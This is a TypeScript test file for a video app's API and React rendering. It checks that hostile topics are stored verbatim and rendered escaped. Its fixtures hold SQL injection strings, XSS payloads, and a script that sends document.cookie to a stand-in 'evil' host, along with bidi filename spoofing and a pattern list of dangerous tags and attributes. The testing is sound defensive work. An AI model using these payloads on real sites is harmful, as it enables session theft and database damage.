// Topics and descriptions are data: quotes, SQL, markup, emoji, bidi text and control characters
// are stored byte for byte, returned unchanged as JSON, and rendered as escaped text, never markup.
import { createElement } from 'react';
import { renderToStaticMarkup } from 'react-dom/server';
import { SWRConfig } from 'swr';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { VideoCard } from '@/components/video-card';
import { VideoStatus } from '@/components/video-status';
import { POST as GENERATE } from '@/app/api/video/generate/route';
import { POST as PROCESS } from '@/app/api/video/process-queue/route';
import { GET as STATUS } from '@/app/api/video/status/[id]/route';
import { GET as LIST } from '@/app/api/videos/route';
import { videoKey } from '@/lib/swr/use-video';
import type { VideoPage, VideoSummary, VideoView } from '@/lib/videos/types';
import { createTestApp, type TestApp } from '../helpers/app';
import { createTestDatabase, type TestDatabase } from '../helpers/db';
import { ownerCookie } from '../helpers/http';
import { fakeProviders } from '../helpers/queue';
import { withAppRouter } from '../helpers/router';
import { expectErrorResponse, fingerprint, send } from './kit';

let t: TestDatabase;
let app: TestApp;
const owner = ownerCookie();

const ZWJ = {
  astronaut: '👩🏽‍🚀', // woman, skin tone, ZWJ, rocket: 7 UTF-16 units
  family: '👨‍👩‍👧‍👦', // four people joined by three ZWJs: 11 UTF-16 units
  rainbowFlag: '🏳️‍🌈',
  heartOnFire: '❤️‍🔥',
  handshake: '🧑🏿‍🤝‍🧑🏻',
};

interface Sample {
  name: string;
  topic: string;
  description?: string;
}

const samples: Sample[] = [
  { name: 'quotes of every kind', topic: `He said "hi" & it's 'fine' — \`tick\` \\backslash\\ “curly” ‘single’ «guillemets»`,
    description: `"'\`\\ " ; '' "" \\" \\'` },
  { name: 'SQL', topic: `Robert'); DROP TABLE videos;-- /* */ ' OR '1'='1 $1::text; select pg_sleep(10); --`,
    description: `'); delete from owners where ('1'='1\n$$ language sql $$; \\x00 E'\\047'` },
  { name: 'HTML and script', topic: `<script>alert("x")</script><img src=x onerror=alert(1)>"><svg onload=alert(2)>`,
    description: `</textarea><script>fetch('//evil/'+document.cookie)</script><a href="javascript:alert(3)">x</a> &lt;already&gt; &amp; &#60;` },
  { name: 'attribute breakers', topic: `" onmouseover="alert(1)" x=' onfocus='alert(2)' autofocus <style>*{}</style>`,
    description: `<iframe srcdoc="<script>alert(4)</script>"></iframe><!-- comment --><![CDATA[x]]>` },
  { name: 'emoji with ZWJ sequences', topic: `Space ${Object.values(ZWJ).join(' ')} 🎬🌋`, description: ZWJ.family.repeat(10) },
  { name: 'right-to-left text and bidi controls', topic: 'مرحبا بالعالم — שלום עולם \u202Egnp.exe\u202C \u200F!\u200E',
    description: '\u2067عربي\u2069 then \u202Bembedded\u202C and \u2066isolate\u2069' },
  { name: 'control characters (no NUL) inside the text', topic: 'a\u0001b\u0007c\u0008d\u001be\u007ff\u0085g\u009fh\u200bi\ufeffj\u2028k\u2029l\tm\nn\ro',
    description: '\u0001\u0002\u0003\u001f\u007f leading and trailing controls\u0007\u001b' },
  { name: 'JSON and template look-alikes', topic: '{"topic":"nested"} ${process.env.SECRET} {{7*7}} <%= 7*7 %> %s%n%x',
    description: '\\u0000 written out, not a NUL; \\n not a newline' },
  { name: 'exactly 200 code points of astral emoji (400 UTF-16 units)', topic: '🎬'.repeat(200) },
  { name: 'exactly 200 code points of ZWJ families and letters', topic: ZWJ.family.repeat(28) + 'abcd' },
  { name: 'exactly 200 code points of two-byte letters', topic: 'é'.repeat(200) },
  { name: 'exactly 200 code points of combining sequences', topic: 'e\u0301'.repeat(100) },
  { name: 'a 2,000-code-point description of emoji and markup', topic: 'Long description', description: '<b>🎬</b>'.repeat(250) },
];

const rows = new Map<string, string>(); // sample name → video id
let plannedId = '';

function generate(body: unknown) {
  return send(GENERATE, {
    url: '/api/video/generate', method: 'POST', body: JSON.stringify(body),
    headers: { 'content-type': 'application/json', cookie: owner.cookie },
  });
}
async function status(id: string): Promise<{ res: Response; view: VideoView }> {
  const res = await send(STATUS, { url: `/api/video/status/${id}`, params: { id }, headers: { cookie: owner.cookie } });
  expect(res.status).toBe(200);
  expect(res.headers.get('content-type')).toMatch(/^application\/json/);
  return { res, view: JSON.parse(await res.clone().text()) as VideoView };
}
async function listAll(): Promise<VideoSummary[]> {
  const res = await send(LIST, { url: '/api/videos?limit=50', headers: { cookie: owner.cookie } });
  expect(res.status).toBe(200);
  return ((await res.json()) as VideoPage).videos;
}
async function dbRow(id: string) {
  const r = await t.db.query<{ topic: string; description: string | null; topic_hex: string; description_hex: string | null; topic_chars: number }>(
    `select topic, description, encode(convert_to(topic, 'UTF8'), 'hex') as topic_hex,
            encode(convert_to(description, 'UTF8'), 'hex') as description_hex, char_length(topic) as topic_chars
     from videos where id = $1::uuid`,
    [id],
  );
  return r.rows[0]!;
}
const hex = (s: string) => Buffer.from(s, 'utf8').toString('hex');

beforeAll(async () => {
  t = await createTestDatabase();
  app = await createTestApp(t.db, { providers: fakeProviders(), env: { MAX_ACTIVE_VIDEOS: '0', STARTING_CREDITS: '100000' } });
  // First, alone in the queue: a hostile topic whose plan runs, so its scenes' narration (which the
  // fake planner builds from the topic) comes back through the API and the scene list too.
  const planned = await generate({ topic: samples[2]!.topic, description: samples[2]!.description, sceneCount: 2 });
  expect(planned.status).toBe(202);
  plannedId = (await planned.json()).id;
  const ran = await send(PROCESS, { url: '/api/video/process-queue', method: 'POST' });
  expect((await ran.json()).processed).toMatchObject({ videoId: plannedId, step: 'plan', outcome: 'completed' });

  for (const s of samples) {
    const res = await generate({ topic: s.topic, ...(s.description === undefined ? {} : { description: s.description }) });
    expect(res.status, `${s.name}: ${await res.clone().text()}`).toBe(202);
    rows.set(s.name, (await res.json()).id);
  }
});

afterAll(async () => {
  await app?.cleanup();
  await t?.drop();
});

describe('stored verbatim and returned verbatim', () => {
  it.each(samples)('$name', async (s) => {
    const id = rows.get(s.name)!;
    const row = await dbRow(id);
    expect(row.topic).toBe(s.topic);
    expect(row.topic_hex).toBe(hex(s.topic));
    expect(row.description).toBe(s.description ?? null);
    if (s.description !== undefined) expect(row.description_hex).toBe(hex(s.description));
    expect(row.topic_chars).toBe([...s.topic].length); // code points in PostgreSQL

    const { view } = await status(id);
    expect(view.topic).toBe(s.topic);
    expect(view.description).toBe(s.description ?? null);
    const listed = (await listAll()).find((v) => v.id === id);
    expect(listed?.topic).toBe(s.topic);
  });

  it('the fake planner\'s narration, built from a hostile topic, round-trips through the scenes too', async () => {
    const { view } = await status(plannedId);
    expect(view.topic).toBe(samples[2]!.topic);
    expect(view.scenes.map((sc) => sc.narration)).toEqual([1, 2].map((i) => `Scene ${i} about ${samples[2]!.topic}.`));
    const stored = await t.db.query<{ narration: string }>('select narration from scenes where video_id = $1::uuid order by index', [plannedId]);
    expect(stored.rows.map((r) => r.narration)).toEqual(view.scenes.map((sc) => sc.narration));
  });
});

describe('length is counted in Unicode code points, after trimming, as the schema (zod 4) counts', () => {
  // README: "topic: string, 1–200 characters". The zod in use measures strings in code points (see
  // $ZodCheckMaxLength), the same unit as PostgreSQL's char_length: not UTF-16 units, not graphemes.
  it('200 code points pass whatever they are made of; the 201st is refused with the field named', async () => {
    expect('🎬'.repeat(200).length).toBe(400);
    expect([...ZWJ.family].length).toBe(7);
    expect([...(ZWJ.family.repeat(28) + 'abcd')].length).toBe(200);
    expect((await dbRow(rows.get('exactly 200 code points of astral emoji (400 UTF-16 units)')!)).topic_chars).toBe(200);

    const before = await fingerprint(t.db);
    const tooLong = [
      '🎬'.repeat(201),
      '🎬'.repeat(200) + 'a',
      ZWJ.family.repeat(28) + 'abcde',
      'é'.repeat(201),
      'e\u0301'.repeat(100) + 'e',
      // A ZWJ sequence is not split to fit: 197 letters and a 4-code-point astronaut are 201.
      'a'.repeat(197) + ZWJ.astronaut,
      // Counting graphemes would let this through: 40 families are 40 graphemes but 280 code points.
      ZWJ.family.repeat(40),
    ];
    for (const topic of tooLong) {
      expect([...topic].length).toBeGreaterThan(200);
      const body = await expectErrorResponse(await generate({ topic }), { status: 422, code: 'validation_failed', field: 'topic' }, topic);
      expect(body.error.issues!.find((i) => i.path === 'topic')!.message).toMatch(/200 characters/);
    }
    expect(await fingerprint(t.db)).toEqual(before);
  });

  it('a ZWJ sequence right at the limit is kept whole', async () => {
    const topic = 'a'.repeat(196) + ZWJ.astronaut;
    expect([...topic].length).toBe(200);
    const res = await generate({ topic });
    expect(res.status).toBe(202);
    const id = (await res.json()).id;
    expect((await dbRow(id)).topic).toBe(topic);
    expect((await status(id)).view.topic.endsWith(ZWJ.astronaut)).toBe(true);
  });

  it('surrounding whitespace is trimmed before counting and is not stored; inner whitespace is kept', async () => {
    const topic = `  \t${'a'.repeat(98)}   ${'b'.repeat(99)}\n `;
    expect(topic.trim().length).toBe(200);
    const res = await generate({ topic });
    expect(res.status).toBe(202);
    const id = (await res.json()).id;
    expect((await dbRow(id)).topic).toBe(topic.trim());
    expect((await status(id)).view.topic).toBe(topic.trim());
  });

  it('descriptions are not trimmed, and 2,000 code points is the limit', async () => {
    const description = `  ${'🎬'.repeat(1996)}  `;
    expect([...description].length).toBe(2000);
    const ok = await generate({ topic: 'Desc limit', description });
    expect(ok.status).toBe(202);
    expect((await dbRow((await ok.json()).id)).description).toBe(description);
    await expectErrorResponse(await generate({ topic: 'Desc limit', description: `${description}x` }),
      { status: 422, code: 'validation_failed', field: 'description' });
  });

  it('a topic PostgreSQL cannot hold verbatim (a lone surrogate, valid as a JSON escape) is refused, not silently changed', async () => {
    const before = await fingerprint(t.db);
    const res = await send(GENERATE, {
      url: '/api/video/generate', method: 'POST', body: '{"topic":"broken \\ud800 half"}',
      headers: { 'content-type': 'application/json', cookie: owner.cookie },
    });
    const text = await res.clone().text();
    if (res.status === 202) {
      // What happens today: the row says "broken \uFFFD half", which is not what was sent.
      const row = await dbRow(JSON.parse(text).id);
      expect(row.topic, 'stored topic').toBe('broken \ud800 half');
    }
    await expectErrorResponse(res, { status: 422, code: 'validation_failed', field: 'topic' });
    expect(await fingerprint(t.db)).toEqual(before);
  });
});

// ---------------------------------------------------------------------------------------------------
// Rendering

interface Tag {
  name: string;
  attrs: [string, string][];
}

/** React never writes a raw "<", ">" or '"' inside text or attribute values, so this tokenizer is exact for its output. */
function tags(html: string): Tag[] {
  return [...html.matchAll(/<(\/?[a-zA-Z][^\s/>]*)([^>]*)>/g)].map((m) => ({
    name: m[1]!.toLowerCase(),
    attrs: [...m[2]!.matchAll(/([^\s="/]+)(?:="([^"]*)")?/g)].map((a) => [a[1]!.toLowerCase(), a[2] ?? ''] as [string, string]),
  }));
}
const skeleton = (html: string) => tags(html).map((tg) => `${tg.name}(${tg.attrs.map(([n]) => n).join(',')})`);
/** How React escapes text and attribute values. */
const escapeHtml = (s: string) => s.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;').replace(/"/g, '&quot;').replace(/'/g, '&#x27;');

function renderCard(video: VideoSummary): string {
  return renderToStaticMarkup(createElement('ul', null, createElement(VideoCard, { video })));
}
function renderStatus(view: VideoView): string {
  return renderToStaticMarkup(
    withAppRouter(createElement(SWRConfig, { value: { provider: () => new Map(), fallback: { [videoKey(view.id)]: view } } }, createElement(VideoStatus, { id: view.id }))),
  );
}
const benign = (s: string) => (s ? 'Benign text' : s);

function expectInert(html: string, benignHtml: string, texts: string[], label: string) {
  expect(html, label).not.toMatch(/<script/i);
  expect(html, label).not.toMatch(/<(iframe|style|svg\s+onload|img\s+src=x|a\s+href="javascript)/i);
  for (const tg of tags(html)) {
    for (const [name, value] of tg.attrs) {
      expect(name, `${label}: <${tg.name} ${name}>`).not.toMatch(/^on/);
      expect(name, `${label}: <${tg.name} ${name}>`).not.toMatch(/^(srcdoc|autofocus)$/);
      if (['href', 'src', 'action', 'formaction'].includes(name)) expect(value, label).not.toMatch(/^\s*javascript:/i);
    }
  }
  // The hostile render has exactly the elements and attribute names of a harmless one.
  expect(skeleton(html), label).toEqual(skeleton(benignHtml));
  for (const text of texts) expect(html, label).toContain(escapeHtml(text));
}

describe('rendered escaped', () => {
  it.each(samples)('video card and status page: $name', async (s) => {
    const id = rows.get(s.name)!;
    const { view } = await status(id);
    const summary = (await listAll()).find((v) => v.id === id)!;

    const card = renderCard(summary);
    expectInert(card, renderCard({ ...summary, topic: 'Benign text' }), [s.topic], `card ${s.name}`);

    const page = renderStatus(view);
    const benignPage = renderStatus({ ...view, topic: 'Benign text', description: view.description === null ? null : benign(view.description) });
    expectInert(page, benignPage, [s.topic, ...(s.description ? [s.description] : [])], `status ${s.name}`);
  });

  it('the status page of the planned hostile video escapes its scenes\' narration', async () => {
    const { view } = await status(plannedId);
    expect(view.scenes).toHaveLength(2);
    const page = renderStatus(view);
    const benignPage = renderStatus({
      ...view, topic: 'Benign text', description: benign(view.description ?? ''),
      scenes: view.scenes.map((sc) => ({ ...sc, narration: 'Benign text', visualPrompt: 'Benign text' })),
    });
    expectInert(page, benignPage, [view.topic, view.description!, ...view.scenes.map((sc) => sc.narration)], 'planned');
    expect(page).toContain('&lt;script&gt;alert(&quot;x&quot;)&lt;/script&gt;&lt;img src=x onerror=alert(1)&gt;');
  });
});
